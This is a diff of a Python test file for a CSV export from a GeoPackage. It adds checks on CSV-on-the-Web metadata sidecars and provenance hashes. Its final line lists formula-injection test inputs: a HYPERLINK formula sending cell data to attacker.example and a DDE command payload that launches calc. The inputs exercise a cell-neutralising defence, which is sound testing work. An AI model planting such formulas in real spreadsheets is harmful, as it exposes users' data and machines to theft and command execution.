@@ -216,6 +216,11 @@ def test_csv_round_trip_utf8_coordinates_as_columns(gpkg, layers, tmp_path):
                 e = exp.astype(object).where(exp.notna(), "").astype(str).map(formats.neutralise_cell)
                 assert (e.to_numpy() == val.to_numpy()).all(), (path.stem, col)
     assert "개천" in (tmp_path / "csv" / "camps.csv").read_text(encoding="utf-8-sig")
+    for path in paths:  # each CSV is described beside it (CSV on the Web): its columns and what it cites
+        doc = json.loads(path.with_name(path.name + "-metadata.json").read_text(encoding="utf-8"))
+        header = pd.read_csv(path, encoding="utf-8-sig", nrows=0).columns.tolist()
+        assert doc["url"] == path.name and [c["name"] for c in doc["tableSchema"]["columns"]] == header
+        assert doc["notes"][0]["atlas:provenance"]["exported_from_sha256"] == sha256(gpkg)
 
 
 EVIL = ["=HYPERLINK(\"http://attacker.example/?\"&A1,\"Kaechon\")", "+cmd|' /C calc'!A0", "-2+3",
